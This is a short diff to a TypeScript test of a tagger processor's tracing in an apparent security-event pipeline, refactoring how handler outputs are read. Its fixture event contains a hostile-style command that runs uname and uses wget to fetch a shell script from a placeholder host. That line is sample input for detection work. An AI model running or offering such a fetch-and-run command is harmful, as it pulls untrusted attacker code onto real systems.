@@ -12,6 +12,7 @@ import {
   SimpleSpanProcessor,
 } from '@opentelemetry/sdk-trace-base';
 import { topicNames } from '@riskline/contracts';
+import { handlerOutcome } from '@riskline/stream-runtime';
 import { taggerForRules } from './testing/bundled-tagger';
 
 const TRACE_ID = '0af7651916cd43dd8448eb211c80319c';
@@ -39,15 +40,17 @@ describe('tagger processor tracing', () => {
       src_ip: '203.0.113.9',
       command: 'uname -a; wget http://x.example/a.sh',
     };
-    const outputs = processor.handle({}, event, {
-      topic: 'soc.events',
-      partition: 1,
-      offset: '5',
-      key: null,
-      headers: { traceparent: PARENT },
-      eventTimeMs: 0,
-      watermarkMs: 0,
-    });
+    const { outputs = [] } = handlerOutcome(
+      processor.handle({}, event, {
+        topic: 'soc.events',
+        partition: 1,
+        offset: '5',
+        key: null,
+        headers: { traceparent: PARENT },
+        eventTimeMs: 0,
+        watermarkMs: 0,
+      }),
+    );
 
     const spans = exporter.getFinishedSpans();
     const evaluate = spans.find((s) => s.name === 'tagger.evaluate')!;
